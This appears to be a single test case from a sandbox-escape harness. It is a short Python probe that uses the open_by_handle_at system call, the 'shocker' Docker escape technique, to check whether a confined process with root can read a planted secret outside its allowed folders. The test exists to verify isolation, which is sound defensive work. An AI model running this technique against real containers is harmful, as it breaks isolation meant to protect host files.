# /// attack
# guarantee = "filesystem_read"
# summary = "Opens a file by its handle, past all folders."
# reference = "open_by_handle_at(2): how 'shocker' left Docker 0.11"
# success = "the secret is read"
# stage = ["canary", "handle"]
# observe = ["secret"]
# needs = ["root"]
# refusal = { default = "errno" }
# ///

import ctypes
import os

from kit import attempt, has_secret, succeeded, syscall, target

handle = ctypes.create_string_buffer(bytes.fromhex(target("HANDLE")))
place = os.open("/usr", os.O_RDONLY)
fd = attempt(lambda: syscall("open_by_handle_at", place, handle, os.O_RDONLY), "EPERM")
if has_secret(os.read(fd, 100)):
    succeeded()
